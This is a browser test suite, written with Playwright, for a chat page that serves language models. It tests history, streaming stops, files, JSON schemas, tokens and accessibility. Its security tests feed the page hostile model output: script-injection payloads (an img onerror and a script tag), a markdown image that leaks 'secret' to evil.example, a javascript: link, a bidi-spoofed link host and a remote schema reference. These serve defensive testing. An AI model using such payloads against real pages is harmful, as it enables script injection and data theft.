"""The page in a real browser: Debian's Chromium, driven by Playwright, in front of a fake engine."""

import importlib.util
import json
import shutil
from contextlib import contextmanager

import pytest

from compress.checkpoint.read import Checkpoint
from compress.serve.access import Access
from tests.serve.documents import make_files as make
from tests.serve.services import until

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.xdist_group("browser")]
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
PHONE, DESKTOP = {"width": 390, "height": 844}, {"width": 1280, "height": 900}
IDLE = "#send:not([hidden])"
ATTACK = """say=<img src=x onerror="document.title='hacked'"><script>document.title='hacked'</script>
![a](https://evil.example/?q=secret) [a](javascript:document.title='hacked') [bank](https://evil.example/login)
"""


@pytest.fixture(scope="module")
def browser():
    if CHROMIUM is None or importlib.util.find_spec("playwright") is None:
        pytest.skip("needs playwright and chromium")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        started = playwright.chromium.launch(
            executable_path=CHROMIUM, args=["--headless", "--no-sandbox", "--disable-gpu"]
        )
        yield started
        started.close()


@pytest.fixture
def opened(browser, start):
    """opened(viewport=, scheme=, hash=, **service) opens the page; every request and message must be harmless."""

    @contextmanager
    def open_page(viewport=DESKTOP, scheme="light", locale="en-US", hash="", **options):
        client = start(**options)
        page = browser.new_page(viewport=viewport, color_scheme=scheme, locale=locale)
        foreign, faults = [], []
        base = str(client.base_url)
        page.on("request", lambda request: foreign.append(request.url) if not is_of_page(request.url, base) else None)
        page.on("pageerror", lambda error: faults.append(str(error)))
        page.on("console", lambda message: faults.append(message.text) if "Security" in message.text else None)
        page.goto(f"{base}{hash}")
        yield page, client
        page.close()
        assert foreign == [] and faults == []

    return open_page


def is_of_page(url, base):
    return url.startswith((base, "blob:"))


def ask(page, text, wait=True):
    page.wait_for_selector(".model.ready")
    turns = page.locator(".turn").count()
    page.fill("#question", text)
    page.click("#send")
    wait_until(page, f"document.querySelectorAll('.turn').length > {turns}")
    if wait:
        page.wait_for_selector(IDLE)


def wait_until(page, condition):
    """Wait until a condition in JavaScript is true. Playwright's own wait needs eval, which the page forbids."""
    for _ in range(500):
        if page.evaluate(condition):
            return
        page.wait_for_timeout(20)
    raise AssertionError(condition)


def answers(page):
    return page.locator(".turn").last.locator(".markdown").all_inner_texts()


def file(name, data):
    return {"name": name, "mimeType": "application/octet-stream", "buffer": data}


def attach(page, *files):
    page.set_input_files("#picker", list(files))
    wait_until(page, f"document.querySelectorAll('.chip').length === {len(files)}")
    wait_until(page, "![...document.querySelectorAll('.chip')].some(one => one.textContent.includes('reading'))")


def test_a_second_turn_sends_the_whole_conversation(opened, engine):
    with opened() as (page, _):
        page.click("#settings-button")
        page.fill("#system", "Be brief.")
        ask(page, "first question")
        ask(page, "second question")
        roles = [(one["role"], one["content"].strip()) for one in engine.seen["payload"]["messages"]]
    assert roles == [
        ("system", "Be brief."),
        ("user", "first question"),
        ("assistant", "echo: first question"),
        ("user", "second question"),
    ]


def test_stop_reaches_the_engine_and_keeps_what_has_come(opened, engine):
    with opened() as (page, _):
        ask(page, "words=1000 wait=0.02", wait=False)
        wait_until(page, "document.querySelector('.markdown')?.textContent.length > 20")
        page.click("#stop")
        assert until(lambda: engine.seen["running"] == 0, 1.0) and engine.seen["aborted"] == 1
        page.wait_for_selector(IDLE)
        assert answers(page)[0].startswith("echo:") and "stopped" in page.locator(".figures").inner_text()


def test_edit_replaces_a_turn_and_retry_asks_it_again(opened, engine):
    with opened() as (page, _):
        ask(page, "one")
        ask(page, "two")
        page.locator(".turn").first.get_by_text("Edit").click()
        assert page.input_value("#question") == "one"
        page.fill("#question", "three")
        page.click("#send")
        wait_until(page, "document.querySelectorAll('.turn').length === 1")
        page.wait_for_selector(IDLE)
        assert [one["content"] for one in engine.seen["payload"]["messages"]] == ["three"]
        before = engine.seen["requests"]
        page.get_by_text("Retry").click()
        assert until(lambda: engine.seen["requests"] == before + 1)
        page.wait_for_selector(IDLE)
        assert page.locator(".turn").count() == 1


def test_two_models_answer_one_question_side_by_side_with_their_speed(opened):
    with opened() as (page, _):
        page.wait_for_selector(".model.ready")
        page.locator(".model").nth(1).click()
        ask(page, "words=20 hello")
        boxes = [box.bounding_box() for box in page.locator(".answer").all()]
        assert page.locator(".answer h3").all_inner_texts() == ["small", "large"]
        assert boxes[0]["y"] == boxes[1]["y"] and boxes[0]["x"] < boxes[1]["x"]
        for text in page.locator(".figures").all_inner_texts():
            assert "first token" in text and "tokens/s" in text and "20 tokens" in text


def test_model_output_is_text_and_sends_nothing(opened):
    with opened() as (page, _):
        ask(page, ATTACK)
        assert "hacked" not in page.title() and page.locator(".markdown img, .markdown script").count() == 0
        text = answers(page)[0]
        assert "<img src=x" in text and "![a](https://evil.example/?q=secret)" in text and "javascript:" in text
        links = page.locator(".markdown a")
        assert links.count() == 1 and links.inner_text() == "bank (evil.example)"
        assert "noopener" in links.get_attribute("rel") and "noreferrer" in links.get_attribute("rel")


def test_an_answer_of_unfinished_links_does_not_halt_the_page(opened):
    with opened() as (page, _):
        ask(page, f"say={'[a](' * 25_000} end")
        assert answers(page)[0].endswith("end")


def test_the_text_of_a_link_cannot_reorder_its_host(opened):
    with opened() as (page, _):
        ask(page, "say=[\u202emoc.knab\u202c \u05d0](https://evil.example/login)")
        text, host = page.locator(".markdown a bdi").all()
        assert text.inner_text() == "moc.knab \u05d0"
        assert host.inner_text() == "(evil.example)" and host.get_attribute("dir") == "ltr"


def test_files_reach_the_prompt_and_a_bad_one_is_named(opened, engine):
    with opened() as (page, _):
        page.wait_for_selector(".model.ready")
        attach(page, file("a.xlsx", make.xlsx({"A1": "kiwi", "B1": 7})), file("b.pdf", b"\x7fELF\0\0"))
        assert "none of pdf" in page.locator(".chip.bad").inner_text()
        assert "tokens" in page.locator(".chip").first.inner_text()
        page.locator(".chip .name").first.click()
        assert "| kiwi | 7 |" in page.locator("dialog .preview").inner_text()
        page.click("#dialog-buttons button")
        ask(page, "How much?")
        assert "| kiwi | 7 |" in engine.seen["payload"]["messages"][0]["content"]
        ask(page, "And now?")
        assert "| kiwi | 7 |" in engine.seen["payload"]["messages"][0]["content"]  # the next turn still has the file


def too_long(page):
    text = "\n".join(f"topic{number} " + "the lazy dog " * 60 for number in range(10))
    page.wait_for_selector(".model.ready")
    attach(page, file("long.txt", text.encode()))
    page.fill("#max-tokens", "50")
    page.fill("#question", "topic7?")
    page.click("#send")
    page.wait_for_selector("dialog[open]")


@pytest.mark.parametrize("choice", ["The first part", "The parts that match", "Cancel"])
def test_a_file_that_does_not_fit_is_cut_only_as_a_person_chooses(opened, engine, tiny_llama, choice):
    with opened(context=1024, tokenizer=Checkpoint(tiny_llama).tokenizer) as (page, _):
        page.click("#settings-button")
        too_long(page)
        page.locator("#dialog-buttons button", has_text=choice).click()
        if choice == "Cancel":
            page.wait_for_timeout(300)
            assert engine.seen["requests"] == 0 and page.input_value("#question") == "topic7?"
            return
        page.wait_for_selector(".turn .markdown")
        page.wait_for_selector(IDLE)
        prompt = engine.seen["payload"]["messages"][0]["content"]
        assert "[…]" in prompt and "of 10 parts" in page.locator(".question").inner_text()
        assert ("topic0 " in prompt) == (choice == "The first part")
        assert ("topic7 " in prompt) == (choice != "The first part")


def test_a_json_answer_is_validated_shown_as_a_tree_and_downloaded(opened, engine):
    with opened() as (page, _):
        page.click("#settings-button")
        page.check("#json")
        page.select_option("#example", "person")
        wait_until(page, "document.getElementById('schema-state').textContent.includes('accepted')")
        ask(page, 'say={"name": "Mia", "age": 7, "city": "Ulm"}')
        assert page.locator(".good").inner_text() == "✓ valid JSON" and page.locator(".tree .leaf").count() == 3
        assert engine.seen["payload"]["response_format"]["json_schema"]["schema"]["required"] == ["name", "age", "city"]
        with page.expect_download() as download:
            page.get_by_text("Download").click()
        assert json.loads(download.value.path().read_text())["name"] == "Mia"
        ask(page, 'say={"name": "Mia"}')
        assert "not valid" in page.locator(".turn").last.inner_text()


def test_a_refused_schema_is_explained_and_nothing_is_sent(opened, engine):
    with opened() as (page, _):
        page.wait_for_selector(".model.ready")
        page.click("#settings-button")
        page.check("#json")
        page.fill("#schema", '{"$ref": "http://evil.example/s"}')
        wait_until(page, "document.getElementById('schema-state').className === 'bad'")
        page.fill("#question", "hello")
        page.click("#send")
        page.wait_for_timeout(300)
        assert engine.seen["requests"] == 0 and "outside the schema" in page.locator("#schema-state").inner_text()


def test_a_full_queue_is_explained_with_the_time_to_wait(opened):
    with opened(running=1, queue=0, names=("small", "large")) as (page, client):
        gate = client.service.models["small"].gate
        gate.running, gate._free._value = 1, 0  # as if another client's request ran
        ask(page, "hello")
        assert "try again later" in page.locator(".answer .bad").inner_text()
        assert "Try again in" in page.locator(".answer .bad").inner_text()


def test_the_token_is_needed_once_and_leaves_the_address_bar(opened, engine):
    token = "a-token-of-24-characters"
    with opened(access=Access(token=token)) as (page, _):
        page.wait_for_selector("dialog[open] input")
        page.fill("dialog input", token)
        page.locator("#dialog-buttons button", has_text="OK").click()
        ask(page, "hello")
        assert answers(page) == ["echo: hello "]
    with opened(access=Access(token=token), hash=f"#token={token}") as (page, _):
        ask(page, "hello")
        assert token not in page.url and answers(page) == ["echo: hello "]


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("viewport", [PHONE, DESKTOP], ids=["phone", "desktop"])
def test_the_page_fits_the_screen_and_has_contrast(opened, viewport, scheme):
    with opened(viewport=viewport, scheme=scheme) as (page, _):
        ask(page, f"say=# Title\n\n{'long' * 80}\n\n| {' | '.join(['cell'] * 30)} |\n| {' | '.join(['x'] * 30)} |")
        assert page.evaluate("document.documentElement.scrollWidth") <= viewport["width"]
        for selector in (".markdown p", ".figures", "#send"):
            assert page.locator(selector).first.evaluate(CONTRAST) >= 4.5, selector


CONTRAST = """element => {
    const parts = colour => colour.match(/[\\d.]+/g).map(Number);
    const light = colour => { const [r, g, b] = parts(colour).map(part => part / 255)
        .map(part => part <= 0.03928 ? part / 12.92 : ((part + 0.055) / 1.055) ** 2.4);
        return 0.2126 * r + 0.7152 * g + 0.0722 * b; };
    let below = element;
    while (parts(getComputedStyle(below).backgroundColor)[3] === 0) below = below.parentElement;
    const [one, two] = [getComputedStyle(element).color, getComputedStyle(below).backgroundColor].map(light);
    return (Math.max(one, two) + 0.05) / (Math.min(one, two) + 0.05);
}"""


def test_the_language_follows_the_browser_and_can_be_switched(opened):
    with opened(locale="zh-CN") as (page, _):
        assert page.locator("#send").inner_text() == "发送"
        page.click("#language")
        assert page.locator("#send").inner_text() == "Send"


def test_both_languages_have_the_same_words():
    from compress.serve.page_files import content

    english, chinese = content("words.js").decode().split("  zh: {")
    import re

    keys = [set(re.findall(r"[{,]?\s(\w+): \"", part)) for part in (english, chinese)]
    assert keys[0] == keys[1] and len(keys[0]) > 60


def test_the_conversation_is_exported_whole(opened):
    with opened() as (page, _):
        ask(page, "hello there")
        page.click("#export")
        with page.expect_download() as download:
            page.locator("#dialog-buttons button", has_text="JSON").click()
        (turn,) = json.loads(download.value.path().read_text())
        assert turn["question"] == "hello there" and turn["answers"][0]["text"] == "echo: hello there "
